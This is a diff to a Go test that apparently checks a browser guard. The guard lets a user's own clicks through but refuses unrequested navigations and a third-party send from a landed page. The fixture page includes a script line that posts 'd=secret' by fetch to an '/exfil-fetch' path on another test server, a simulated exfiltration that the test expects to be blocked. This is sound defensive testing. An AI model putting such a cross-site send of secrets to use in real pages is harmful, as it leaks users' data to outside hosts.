@@ -231,7 +231,8 @@ setTimeout(()=>{location.href='/file-nav'},1000)})</script>`)
 // TestTakeoverUserActsPass: the user's own acts at the window still pass,
 // exactly once each, audited user_driven with nothing spent: a real click
 // on a link to a site nobody granted (where that site's page then posts to
-// itself by fetch, as a login does, and tries a third site, refused), a
+// itself by fetch, as a login does, and tries a third site, refused; its
+// own script's navigation is refused too, nobody granted it), a
 // real click on a form's submit button that posts there, and a real click
 // on a link to a file, which is kept.
 func TestTakeoverUserActsPass(t *testing.T) {
@@ -239,7 +240,9 @@ func TestTakeoverUserActsPass(t *testing.T) {
 	B := h.b.URL
 	h.b.page("/user-link", `<!doctype html><title>B</title><script>
 fetch('/login',{method:'POST',body:'pw=1'});
-fetch('`+h.c.URL+`/exfil-fetch',{method:'POST',body:'d=secret',mode:'no-cors'});</script>`)
+fetch('`+h.c.URL+`/exfil-fetch',{method:'POST',body:'d=secret',mode:'no-cors'});
+setTimeout(()=>{location.href='/b-next'},300);</script>`)
+	h.b.page("/b-next", `<!doctype html><title>B next</title>`)
 	userRows := func(s *site, path string) []map[string]any {
 		var out []map[string]any
 		for _, r := range h.guardRows(s, path, "allow") {
@@ -271,6 +274,11 @@ fetch('`+h.c.URL+`/exfil-fetch',{method:'POST',body:'d=secret',mode:'no-cors'});
 	}
 	if n := h.c.count("/exfil-fetch"); n != 0 {
 		t.Errorf("the site the user went to sent to a third site %d times, want 0", n)
+	}
+	// Its own script moving it on is not the user's act: refused as the
+	// agent's would be (nobody granted B), as the README says.
+	if n := h.settle(h.b, "/b-next"); n != 0 {
+		t.Errorf("the landing page's own script navigation reached its site %d times, want 0 (README: refused)", n)
 	}
 	h.resume()
 
